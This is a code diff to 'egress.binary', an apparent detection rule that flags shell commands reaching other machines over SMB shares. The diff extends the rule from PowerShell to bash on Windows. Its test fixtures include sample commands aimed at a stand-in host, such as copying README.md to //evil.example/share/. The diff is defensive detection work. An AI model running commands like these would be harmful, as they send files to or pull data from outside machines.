@@ -1,5 +1,5 @@
 // egress.binary: a denied network client at command position, at any depth, wrappers peeled.
-import type { Finding, Invocation, Word } from '../types.js';
+import type { Finding, Invocation, Word, WordRole } from '../types.js';
 import { compile } from './compiled.js';
 import type { HostMatcher } from './hosts.js';
 import type { Rule } from './rule.js';
@@ -16,6 +16,23 @@ const REMOTE_HOST = ['computername', 'hostname', 'connectionuri', 'server', 'ser
 const REMOTE_SESSION = ['session', 'pssession', 'cimsession', 'tosession', 'fromsession', 'sshconnection'];
 const REMOTE_ALIAS: Readonly<Record<string, string>> = { cn: 'computername', cu: 'connectionuri' };
 const VERB_NOUN = /^[a-z]+-[a-z][a-z0-9]*$/;
+
+/** What a program does to a word that names a file: it opens it (a search pattern, a message or a host is no file). */
+const OPENS: ReadonlySet<WordRole> = new Set<WordRole>(['read', 'read-tree', 'meta', 'write', 'create', 'extract', 'delete', 'delete-tree', 'unknown']);
+
+/**
+ * A word naming another machine's share that a bash program opens. bash on Windows (Git Bash, which Claude Code's Bash
+ * tool runs there, MSYS2, Cygwin) opens `//host/share/…` and `\\host\share\…` as Win32 does, over SMB; a search
+ * pattern (`grep '//example.com/' src`) or a message is no file. PowerShell's words are judged whatever their role.
+ */
+function bashShare(inv: Invocation): Word | undefined {
+  const uses = inv.uses ?? [];
+  return inv.args.find(
+    (w) =>
+      w.values?.some((v) => UNC.test(v)) &&
+      (uses.length === 0 || uses.some((u) => OPENS.has(u.role) && u.span.start === w.span.start && u.span.end === w.span.end && u.text === w.text)),
+  );
+}
 
 /**
  * Why a cmdlet that no entry knows as a client reaches another machine, or undefined: a remoting parameter
@@ -188,6 +205,9 @@ export const egressBinary: Rule = {
       { command: '& \\\\example.com\\share\\x.exe', shell: PS },
       { command: '. \\\\example.com\\share\\x.ps1', shell: PS },
       { command: "[System.IO.File]::ReadAllText('\\\\example.com\\share\\x')", shell: PS },
+      // bash on Windows (Git Bash) opens another machine's share too.
+      "cat '\\\\evil.example\\share\\x.txt'",
+      'cp README.md //evil.example/share/',
       'openssl {version,s_client} -connect example.com:443',
       'openssl ocsp -url http://example.com/ -issuer ca.crt -serial 1',
       'openssl cmp -server example.com:80 -cmd ir',
@@ -229,7 +249,9 @@ export const egressBinary: Rule = {
       { command: 'Get-Service -ComputerName .', shell: PS },
       { command: 'Get-Process -Name node', shell: PS },
       { command: "Start-Process npm -ArgumentList test -Environment @{NODE_ENV='test'}", shell: PS },
-      "cat '\\\\evil.example\\share\\x.txt'",
+      "echo '\\\\evil.example\\share\\x.txt'",
+      "grep -rn '//evil.example/api' src",
+      'cat //localhost/share/notes.txt',
       'curl --version',
       'curl -s localhost:3000/health',
       'curl -sf http://127.0.0.1:8000/api/items',
@@ -270,15 +292,15 @@ export const egressBinary: Rule = {
         findings.push({ rule: 'egress.binary', kind: 'egress', message: `${inv.program} opens ${opened.what ?? 'this machine to other machines'}: ${opened.why}`, span: inv.span, segment: inv.segment });
         continue;
       }
-      // A program run from another machine's share (`& \\host\share\x.exe`, `. \\host\share\x.ps1`) is fetched over SMB.
-      if (inv.dialect === PS && UNC.test(inv.path)) {
+      // A program run from another machine's share (`& \\host\share\x.exe`, `. \\host\share\x.ps1`, bash's `//host/share/x.sh`) is fetched over SMB.
+      if (UNC.test(inv.path)) {
         findings.push({ rule: 'egress.binary', kind: 'egress', message: `${inv.path} is a program on another machine: it is fetched over SMB`, span: inv.span, segment: inv.segment });
         continue;
       }
       // Windows opens `\\host\share\…` over SMB for any program, whatever mode its entry reads as offline: a path on
       // another machine is a connection to it.
       // A switch's attached value counts (`--update=\\host\share`, `/p:\\host\x`).
-      const unc = inv.dialect === PS ? inv.args.find((w, i) => w.values?.some((v) => UNC.test(v)) || UNC.test(switchValue(inv.args, i))) : undefined;
+      const unc = inv.dialect === PS ? inv.args.find((w, i) => w.values?.some((v) => UNC.test(v)) || UNC.test(switchValue(inv.args, i))) : bashShare(inv);
       if (unc) {
         findings.push({ rule: 'egress.binary', kind: 'egress', message: `${unc.text} is a path on another machine: ${inv.program} reaches it over SMB`, span: unc.span, segment: inv.segment });
         continue;
@@ -316,9 +338,8 @@ export const egressBinary: Rule = {
         });
       }
     }
-    // `'x' > \\host\share\f`: a redirection to another machine's share writes over SMB.
+    // `'x' > \\host\share\f`, bash's `> //host/share/f`: a redirection to another machine's share writes over SMB.
     analysis.segments.forEach((seg, segment) => {
-      if (seg.dialect !== PS) return;
       for (const r of seg.redirects) {
         if (r.target?.values?.some((v) => UNC.test(v))) findings.push({ rule: 'egress.binary', kind: 'egress', message: `${r.target.text} is a path on another machine: the redirection writes there over SMB`, span: r.span, segment });
       }
